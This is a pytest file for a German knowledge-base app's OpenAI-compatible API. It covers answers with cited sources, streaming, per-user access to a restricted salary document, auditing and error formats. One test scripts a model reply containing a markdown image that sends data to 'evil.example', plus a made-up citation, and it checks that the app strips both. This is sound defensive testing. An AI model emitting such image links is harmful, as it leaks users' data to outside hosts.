"""The OpenAI-compatible API (/v1), driven by the official ``openai`` client against a real
server on loopback: the model list, answers streamed and not, sources as footnotes and in
the extra field, the permissions of the token's owner, errors in OpenAI's shape, the audit."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
from fastapi.testclient import TestClient

from tests.conftest import make_app
from tests.web.open_interfaces import RESTRICTED, SALARY_QUESTION, Served, served
from wissenswerk.answering.generative import GroundedAnswerer
from wissenswerk.answering.llm.base import ChatChunk, ChatMessage, Usage
from wissenswerk.config.settings import LlmSettings
from wissenswerk.web.app import create_app

MAINTENANCE = "Wie lange ist das Wartungsintervall für Getriebe der Baureihe HX?"


@pytest.fixture
def kb(tmp_path: Path) -> Iterator[Served]:
    with served(tmp_path) as running:
        yield running


def client(kb: Served, token: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{kb.url}/v1", api_key=token, max_retries=0, timeout=30)


def ask(kb: Served, token: str, question: str) -> Any:
    with client(kb, token) as api:
        return api.chat.completions.create(
            model="wissenswerk", messages=[{"role": "user", "content": question}]
        )


def streamed(kb: Served, token: str, messages: list[Any]) -> list[Any]:
    with client(kb, token) as api:
        stream = api.chat.completions.create(
            model="wissenswerk",
            messages=messages,
            stream=True,
            stream_options={"include_usage": True},
        )
        return list(stream)


def text_of(chunks: list[Any]) -> str:
    return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)


def test_the_knowledge_base_is_the_one_model(kb: Served) -> None:
    with client(kb, kb.token("anna", "ask")) as api:
        assert [m.id for m in api.models.list()] == ["wissenswerk"]
        assert api.models.retrieve("wissenswerk").owned_by == "wissenswerk"


def test_an_answer_cites_its_sources_as_footnotes_and_in_the_extra_field(kb: Served) -> None:
    completion = ask(kb, kb.token("anna", "ask"), MAINTENANCE)
    assert completion.object == "chat.completion" and completion.model == "wissenswerk"
    [choice] = completion.choices
    assert choice.finish_reason == "stop" and choice.message.role == "assistant"
    content = choice.message.content
    assert "2.000 Betriebsstunden" in content
    assert content.endswith("[1] Technik/Wartung.md")
    [source] = completion.sources
    assert source["number"] == 1 and source["path"] == "Technik/Wartung.md"
    assert source["document_id"] == kb.document_id("Technik/Wartung.md")
    assert source["url"].startswith(f"{kb.url}/documents/{source['document_id']}?")
    assert "2.000 Betriebsstunden" in source["quote"]
    assert completion.x_wissenswerk == {
        "found": True,
        "mode": "extractive",
        "notes": [],
        "model": None,
    }
    # Extractive answers need no language model: no tokens.
    assert completion.usage.total_tokens == 0


def test_streaming_sends_the_same_answer_and_the_sources_on_the_last_chunk(kb: Served) -> None:
    token = kb.token("anna", "ask")
    whole = ask(kb, token, MAINTENANCE)
    chunks = streamed(kb, token, [{"role": "user", "content": MAINTENANCE}])
    assert chunks[0].choices[0].delta.role == "assistant"
    assert text_of(chunks) == whole.choices[0].message.content
    assert len({c.id for c in chunks}) == 1
    finishing = [c for c in chunks if c.choices and c.choices[0].finish_reason]
    assert [c.choices[0].finish_reason for c in finishing] == ["stop"]
    assert finishing[0].sources == whole.sources
    assert finishing[0].x_wissenswerk["found"] is True
    # With include_usage, the last chunk has no choices and the usage.
    assert chunks[-1].choices == [] and chunks[-1].usage.total_tokens == 0


def test_the_restricted_document_never_reaches_another_user(kb: Served) -> None:
    anna, mia = kb.token("anna", "ask"), kb.token("mia", "ask")
    for question in (SALARY_QUESTION, "Kilometerpauschale Dienstwagen"):
        refused = ask(kb, anna, question).model_dump_json()
        refused_stream = json.dumps(
            [c.model_dump() for c in streamed(kb, anna, [{"role": "user", "content": question}])]
        )
        for body in (refused, refused_stream):
            assert RESTRICTED not in body and "Gehaltsb" not in body
            assert "58.000" not in body
    answered = ask(kb, mia, SALARY_QUESTION)
    assert "58.000" in answered.choices[0].message.content
    assert RESTRICTED in {s["path"] for s in answered.sources}
    assert f"[1] {RESTRICTED}" in answered.choices[0].message.content


def test_the_last_user_message_is_the_question(kb: Served) -> None:
    token = kb.token("anna", "ask")
    messages = [
        {"role": "system", "content": "Antworte auf Deutsch."},
        {"role": "user", "content": "Wann öffnet die Kantine?"},
        {"role": "assistant", "content": "Um 11:30 Uhr [1]."},
        {"role": "user", "content": MAINTENANCE},
    ]
    assert "2.000 Betriebsstunden" in text_of(streamed(kb, token, messages))
    [asked] = kb.events("question.asked")
    assert asked["question"] == MAINTENANCE and asked["history"] == 2


def test_questions_and_answers_are_audited_as_coming_through_the_api(kb: Served) -> None:
    token = kb.token("anna", "ask")
    ask(kb, token, MAINTENANCE)
    streamed(kb, token, [{"role": "user", "content": MAINTENANCE}])
    asked = kb.events("question.asked")
    assert [(e["actor"], e["via"], e["stream"]) for e in asked] == [
        ("anna", "openai-api", False),
        ("anna", "openai-api", True),
    ]
    given = kb.events("answer.given")
    assert len(given) == 2
    for event in given:
        assert event["via"] == "openai-api" and event["found"] is True
        assert event["cited"] == ["share:Technik/Wartung.md"]
        assert (event["tokens_in"], event["tokens_out"]) == (0, 0)
        assert event["latency_ms"] >= 0


# --- a language model writes the answer ------------------------------------------------
class ScriptedModel:
    """A ChatModel (answering.llm.base) that replies from a script and records its prompts."""

    name = "scripted"
    context_size = 4096

    def __init__(self, *replies: str) -> None:
        self.replies = list(replies)
        self.calls: list[list[ChatMessage]] = []

    def stream(
        self,
        messages: list[ChatMessage],
        *,
        max_tokens: int,
        temperature: float,
        stop: list[str] | None = None,
    ) -> Iterator[ChatChunk]:
        self.calls.append(list(messages))
        reply = self.replies.pop(0)
        for i in range(0, len(reply), 5):
            yield ChatChunk(reply[i : i + 5])
        yield ChatChunk("", usage=Usage(100, 20), finish_reason="stop")

    def count_tokens(self, text: str) -> int:
        return len(text.split())


def use_model(kb: Served, model: ScriptedModel) -> None:
    ww = kb.ww
    ww.answerer = GroundedAnswerer(  # type: ignore[assignment]
        ww.search, ww.analyzer, model, LlmSettings(max_tokens=200), ww.settings.answering
    )


def test_a_generated_answer_streams_only_its_checked_text(kb: Served) -> None:
    """The model's raw text carries an exfiltration image and a made-up source [7]; what the
    front-end gets, streamed or not, is the checked answer."""
    reply = (
        "Das Intervall beträgt 2.000 Betriebsstunden [1] [7].\n"
        "![logo](https://evil.example/collect?q=geheim)"
    )
    model = ScriptedModel(reply, reply)
    use_model(kb, model)
    token = kb.token("anna", "ask")
    whole = ask(kb, token, MAINTENANCE)
    chunks = streamed(kb, token, [{"role": "user", "content": MAINTENANCE}])
    for text in (whole.choices[0].message.content, text_of(chunks)):
        assert "2.000 Betriebsstunden [1]" in text
        assert "evil.example" not in text and "[7]" not in text
        assert text.endswith("[1] Technik/Wartung.md")
    # Streamed as it is written: each line on its own chunk, the footnotes after them, and
    # together exactly the answer a non-streaming client gets.
    contents = [c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta]
    contents = [c for c in contents if c]
    assert len(contents) >= 3
    assert "".join(contents) == whole.choices[0].message.content
    assert whole.x_wissenswerk["mode"] == "generated"
    assert whole.x_wissenswerk["model"] == "scripted"
    assert (whole.usage.prompt_tokens, whole.usage.completion_tokens) == (100, 20)
    assert chunks[-1].usage.total_tokens == 120
    [given, _] = kb.events("answer.given")
    assert (given["model"], given["tokens_in"], given["tokens_out"]) == ("scripted", 100, 20)


def test_the_conversation_before_the_question_reaches_the_answerer(kb: Served) -> None:
    model = ScriptedModel("Getriebe HX Wartungsintervall", "Es sind 2.000 Betriebsstunden [1].")
    use_model(kb, model)
    messages = [
        {"role": "user", "content": "Was steht in der Wartungsanleitung für HX-Getriebe?"},
        {"role": "assistant", "content": "Sie regelt Intervalle und Sicherheit [1]."},
        {"role": "user", "content": "Und wie lang ist das Intervall?"},
    ]
    chunks = streamed(kb, kb.token("anna", "ask"), messages)
    assert "2.000 Betriebsstunden" in text_of(chunks)
    rewrite = "\n".join(m.content for m in model.calls[0])
    assert "Wartungsanleitung für HX-Getriebe" in rewrite
    assert "Und wie lang ist das Intervall?" in rewrite


# --- errors ---------------------------------------------------------------------------
def error_of(response: Any) -> dict[str, Any]:
    assert response.headers["content-type"].startswith("application/json"), response.text
    body = response.json()
    assert set(body) == {"error"} and set(body["error"]) == {"message", "type", "param", "code"}
    error: dict[str, Any] = body["error"]
    return error


def test_tokens_and_scopes_are_checked(kb: Served) -> None:
    with pytest.raises(openai.AuthenticationError) as bad:
        ask(kb, "ww_00000000_nonsense", MAINTENANCE)
    assert bad.value.code == "invalid_token"
    with pytest.raises(openai.PermissionDeniedError) as scope:
        ask(kb, kb.token("anna", "search"), MAINTENANCE)
    assert scope.value.code == "insufficient_scope"
    [denied] = kb.events("permission.denied")
    assert (denied["actor"], denied["via"], denied["needed"]) == ("anna", "openai-api", "ask")
    # No key at all: a JSON error, not the CSRF page a browser form would get.
    for method, path in (("GET", "/v1/models"), ("POST", "/v1/chat/completions")):
        response = httpx.request(method, f"{kb.url}{path}", json={})
        assert response.status_code == 401
        assert error_of(response)["code"] == "missing_token"
        assert response.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"model": "gpt-4o", "messages": [{"role": "user", "content": "Hallo"}]}, 404, None),
        ({"model": "wissenswerk", "messages": []}, 400, "invalid_request"),
        ({"model": "wissenswerk", "messages": [{"role": "assistant", "content": "x"}]}, 400, None),
        (
            {"model": "wissenswerk", "messages": [{"role": "user", "content": "x" * 2001}]},
            400,
            None,
        ),
        (
            {
                "model": "wissenswerk",
                "messages": [
                    {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}
                ],
            },
            400,
            "unsupported_content",
        ),
    ],
)
def test_bad_requests_get_openai_errors(
    kb: Served, body: dict[str, Any], status: int, code: str | None
) -> None:
    headers = {"Authorization": f"Bearer {kb.token('anna', 'ask')}"}
    response = httpx.post(f"{kb.url}/v1/chat/completions", json=body, headers=headers)
    assert response.status_code == status
    error = error_of(response)
    assert error["type"] == "invalid_request_error" and error["message"]
    if code:
        assert error["code"] == code
    assert not kb.events("question.asked")


def test_the_openai_client_raises_on_a_wrong_model_and_unknown_urls_are_json(kb: Served) -> None:
    token = kb.token("anna", "ask")
    with client(kb, token) as api, pytest.raises(openai.NotFoundError) as wrong:
        api.chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "Hallo"}])
    assert wrong.value.code == "model_not_found"
    response = httpx.post(
        f"{kb.url}/v1/embeddings", json={}, headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 404 and error_of(response)["code"] == "unknown_url"


def test_before_setup_the_api_answers_json_not_the_setup_page(tmp_path: Path) -> None:
    ww = make_app(tmp_path / "data")
    try:
        with TestClient(create_app(ww), follow_redirects=False) as browserless:
            for method, path in (("GET", "/v1/models"), ("POST", "/v1/chat/completions")):
                response = browserless.request(
                    method, path, json={}, headers={"Authorization": "Bearer ww_x"}
                )
                assert response.status_code == 503
                assert error_of(response)["code"] == "setup_required"
    finally:
        ww.close()
